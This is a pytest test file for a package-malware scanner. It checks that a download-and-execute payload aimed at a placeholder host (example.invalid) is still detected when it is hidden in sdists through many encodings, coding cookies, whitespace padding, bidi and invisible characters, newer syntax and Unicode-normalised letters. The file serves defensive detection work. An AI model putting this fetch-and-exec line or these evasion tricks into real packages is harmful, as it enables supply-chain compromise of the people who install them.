"""The payload in every encoding and spelling that Python, or a script that reads it, understands."""

import codecs

import pytest

ENCODINGS = [
    "latin-1", "cp1252", "iso-8859-15", "ascii", "shift_jis", "euc_jp", "big5", "gbk", "gb18030", "koi8-r", "utf-8",
    "utf-8-sig", "utf-7", "cp037", "cp500", "cp1140", "cp273", "hz", "iso2022_jp", "iso2022_kr", "raw_unicode_escape",
    "unicode_escape", "punycode", "mac-roman", "johab", "idna", "cp1026",
]  # fmt: skip
COOKIES = [
    "# coding: {}",
    "# -*- coding: {} -*-",
    "# vim: set fileencoding={} :",
    "\f # coding={}",
    "#!/usr/bin/python\n#coding:{}",
    "\n# coding: {}",
    "# x\r# coding: {}",
]


def encoded(text, encoding):
    if encoding == "utf-7":
        return b"".join(
            b"+" + codecs.encode(letter.encode("utf-16-be"), "base64").strip().rstrip(b"=") + b"-"
            if letter.isalpha()
            else letter.encode("utf-7")
            for letter in text
        )
    if encoding == "unicode_escape":
        return "".join(f"\\x{ord(letter):02x}" if letter.isalpha() else letter for letter in text).encode()
    if encoding == "raw_unicode_escape":
        return "".join(f"\\u{ord(letter):04x}" if letter.isalpha() else letter for letter in text).encode()
    if encoding == "idna":
        return text.encode()
    return text.encode(encoding)


@pytest.mark.parametrize("cookie", COOKIES)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_the_payload_is_found_in_every_encoding(encoding, cookie, make, examine):
    line = cookie.replace("{}", encoding)
    # The cookie itself is read as bytes.
    data = line.encode() + b"\n" + encoded(make.code.decode(), encoding)
    examine(make.sdist({"demo/x.py": data, "tool": data})).is_found("demo-1.0/demo/x.py", "rest")


@pytest.mark.parametrize(
    "name", ["utf_7", "UTF-7", "u7", "-utf-7-", "utf__7", "_utf_7_", "unicode-1-1-utf-7", "utf--7"]
)
def test_the_payload_is_found_in_an_encoding_by_another_name(name, make, examine):
    data = f"# coding: {name}\n".encode() + encoded(make.code.decode(), "utf-7")
    examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "rot13", "unicode_escape", "punycode", "hz"])
def test_the_payload_is_found_despite_a_cookie_that_is_ignored(encoding, make, examine):
    """Code that opens a file as text and executes it ignores cookies."""
    data = f"# coding: {encoding}\n".encode() + make.code
    examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")
    setup = b"exec(open('demo/x.txt').read())\n"
    examine(make.sdist({"setup.py": setup, "demo/x.txt": data})).is_found("demo-1.0/demo/x.txt", "install")


@pytest.mark.parametrize("name", ["bin/tool", "demo/x.dat", "demo/x.pyi"])
@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "unicode_escape"])
def test_the_payload_is_found_in_a_text_with_a_cookie(encoding, name, make, examine):
    data = f"# coding: {encoding}\n".encode() + encoded(make.code.decode(), encoding)
    examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", "text")


def test_the_payload_is_found_in_rot13(make, examine):
    data = b"# coding: rot13\n" + codecs.encode(make.code.decode(), "rot13").encode()
    examine(make.sdist({"demo/x.py": data})).is_found("demo-1.0/demo/x.py", "rest")


@pytest.mark.parametrize("name", ["klingon", "hex", "base64", "zlib", "mbcs", "undefined", "os.path"])
def test_an_unknown_encoding_is_counted_and_ignored(name, make, examine):
    seen = examine(make.sdist({"demo/x.py": f"# coding: {name}\n".encode() + make.code}))
    seen.is_found("demo-1.0/demo/x.py", "rest")
    assert seen.row.values["code_bad_encoding"] == 1


def test_an_encoding_that_takes_too_long_is_named(make, examine):
    data = b"# coding: punycode\n" + b"#" * 30_000 + b"\n" + make.code
    examine(make.sdist({"demo/x.py": data})).is_named("encoding_bytes")


@pytest.mark.parametrize("name", ["demo/x.py", "demo/x.ps1", "bin/tool", "x.txt"])
@pytest.mark.parametrize("mark", [True, False])
@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_the_payload_is_found_in_wide_text(encoding, mark, name, make, examine):
    data = (("\ufeff" if mark else "") + make.code.decode()).encode(encoding)
    section = {"demo/x.py": "rest", "x.txt": "prose"}.get(name, "text")
    examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", section)


@pytest.mark.parametrize(
    "before",
    [b"#" + b"\0a" * 900 + b"\n", b"#" + b"a\0" * 900 + b"\n", b"\xff\xfe = 1\n", b"\xfe\xff = 1\n", b"# \0\n", b"\0\n", b"#\0\0\0a" * 900 + b"\n"],
)  # fmt: skip
@pytest.mark.parametrize("name", ["demo/x.py", "demo/x.sh"])
def test_the_payload_is_found_in_text_that_only_looks_wide(name, before, make, examine):
    section = "rest" if name.endswith("py") else "text"
    examine(make.sdist({name: before + make.code})).is_found(f"demo-1.0/{name}", section)


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le"])
@pytest.mark.parametrize("name", ["demo/x.py", "demo/x.sh"])
def test_the_payload_is_found_in_wide_text_among_other_text(name, encoding, make, examine):
    data = b"# a comment\n" * 500 + make.code.decode().encode(encoding) + b"\n# a comment" * 500
    examine(make.sdist({name: data})).is_found(f"demo-1.0/{name}", "rest" if name.endswith("py") else "text")


ONE = 'exec(urllib.request.urlopen("http://example.invalid/stage").read())'
SPELLINGS = {
    "mark": "\ufeff" + ONE,
    "form feed": f"\f{ONE}\f",
    "far right": f"x = 1{' ' * 3000};{ONE}",
    "far down": "\n" * 20_000 + ONE,
    "tabs": "if 1:\n" + "\t" * 90 + ONE,
    "continued": ONE.replace("(", "\\\n(").replace(".", "\\\n."),
    "in brackets": f"({ONE[:5]}\n# a comment\n{ONE[5:]})",
    "spaced": ONE.replace("(", " \t(").replace(".u", " . u"),
    "carriage return": f"# a comment\r{ONE}",
    "crlf": f"x = 1\r\n{ONE}\r\n",
    "vertical tab": f"x = '\x0b'; {ONE}",
    "file separator": f"# \x1c\n{ONE}",
    "next line": f"# \x85\n{ONE}",
    "line separator": f"# \u2028\n{ONE}",
    "lone triple quote": f'x = \'"""\'\n{ONE}',
    "lone triple quote in a comment": f"# it's '''\n{ONE}",
    "open triple quote": f'x = \'a\'\n"""\n{ONE}',
    "python 2": f"print 'x'\nexec urllib.request.urlopen('http://example.invalid/stage').read()\n{ONE}",
    "broken": f"def (:\n{ONE}\n",
    "deep": "(" * 400 + ")" * 400 + f"\n{ONE}",
    "deep and open": "[" * 5000 + f"\n{ONE}",
    "bidi": f"x = '\u202e'; {ONE} # \u2066",
    "invisible": f"x\u200b = 1\n{ONE}",
    "one line": "x = 1;" * 9_000 + ONE,
    "many hits": "exec(x)\n" * 9_000 + ONE,
    "walrus": f"(y := {ONE})",
    "lambda": f"(lambda: {ONE})()",
    "f-string": 'f"{' + ONE.replace('"', "'") + '}"',
    "decorator": f"@(lambda f: {ONE})\ndef g(): pass",
    "in a function": f"def g():\n    {ONE}",
    "in a class": f"class G:\n    {ONE}",
    "annotation": f"x: {ONE} = 1",
    "default": f"def g(x={ONE}): pass",
    "match": f"match {ONE}:\n    case _: pass",
    "type parameters": f"def g[T](): pass\n{ONE}",
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize(
    ("name", "role"), [("setup.py", "install"), ("demo/__init__.py", "import"), ("demo/x.py", "rest")]
)
def test_the_payload_is_found_in_every_spelling(name, role, spelling, make, examine):
    data = ("import urllib.request\n" + SPELLINGS[spelling]).encode()
    seen = examine(make.sdist({name: data}))
    shown = {at.indicator for at in seen.row.evidence if at.member == f"demo-1.0/{name}"}
    assert shown & {"exec_download", "download_then_execute"} or shown >= {"exec_call", "urlopen"}, seen.describe()
    assert (
        seen.row.values[f"code_{role}_category_network"]
        or seen.row.values[f"code_{role}_finding_download_then_execute"]
    ), seen.describe()


HIDDEN = "import urllib.request as u\ne = exec\ne(u.urlopen('http://example.invalid/stage').read())\n"
"""The payload in names that only a tree gives away."""
NEWER = {
    "type alias": "type X[T: list[int]] = dict[T, int]\n",
    "type alias on one line": "x = 1; type X = int\n",
    "type parameters": "def f[T: (int, C[[], A[dict[str, B[int]]]]), *Ts, **P](x: T) -> T: return x\n",
    "type parameters on lines": "class A[\n    T: int = int,\n](B):\n    pass\n",
    "f-string in its own quotes": "x = f'{d['a']}'\n",
    "f-string in itself": "x = f'{f'{1}'}'\n",
    "f-string with a line end": "x = f'{a\n+ b}' + f'{1:#x}'\n",
    "f-string with a comment": "x = f'{a  # it is\n}'\n",
    "f-string with a backslash": "x = f'{\"\\n\".join(a)}'\n",
    "template string": 'x = t\'{a}\' + rt"""{b}""" + Tr\'c\'\n',
    "template string in itself": "x = t'{t'{a}'}'\n",
    "exceptions": "try:\n    pass\nexcept A, B.C:\n    pass\nexcept A, B, C:\n    pass\n",
    "exceptions of a group": "try:\n    pass\nexcept* A, B:\n    pass\n",
    "two exceptions": "try:\n    pass\nexcept A, B:\n    x = t'{a}'\n",
    "unpacking in a comprehension": "x = [*a for a in b]\ny = {\n  **d for d in e}\nz = (*a for a in b)\n",
    "lazy import": "lazy import json\nif 1: lazy from a import b\n",
}


@pytest.mark.parametrize("spelling", NEWER)
@pytest.mark.parametrize("name", ["setup.py", "demo/__init__.py"])
def test_the_payload_is_found_in_newer_syntax(name, spelling, make, examine):
    seen = examine(make.sdist({name: (NEWER[spelling] + HIDDEN).encode()}))
    seen.is_seen("download_then_execute", f"demo-1.0/{name}")


@pytest.mark.parametrize("line", ["lazy import boot\nboot.main()\n", "lazy from boot import main\nmain()\n"])
def test_the_payload_is_found_behind_a_lazy_import(line, make, examine):
    boot = "def main():\n    " + HIDDEN.replace("\n", "\n    ")
    seen = examine(make.sdist({"setup.py": line.encode(), "boot.py": boot.encode(), "other.py": b""}))
    assert ("demo-1.0/boot.py", "install") in {(at.member, at.role.value) for at in seen.row.evidence}, seen.describe()


def test_the_payload_is_found_with_a_lazy_import(make, examine):
    examine(make.sdist({"setup.py": f"lazy {HIDDEN}".encode()})).is_seen("download_then_execute", "demo-1.0/setup.py")


def disguised(text):
    return "".join(chr(ord(letter) + 0xFEE0) if letter.isalpha() else letter for letter in text)


def mathematical(text):
    return "".join(chr(0x1D41A + ord(letter) - 97) if "a" <= letter <= "z" else letter for letter in text)


@pytest.mark.parametrize("write", [disguised, mathematical])
@pytest.mark.parametrize(
    ("name", "role"), [("setup.py", "install"), ("demo/__init__.py", "import"), ("demo/x.py", "rest")]
)
def test_the_payload_is_found_in_letters_that_python_normalises(name, role, write, make, examine):
    code = f'import {write("urllib.request")}\n{write("exec")}({write("urllib.request.urlopen")}("http://example.invalid/stage").{write("read")}())\n'
    examine(make.sdist({name: code.encode()})).is_found(f"demo-1.0/{name}", role)
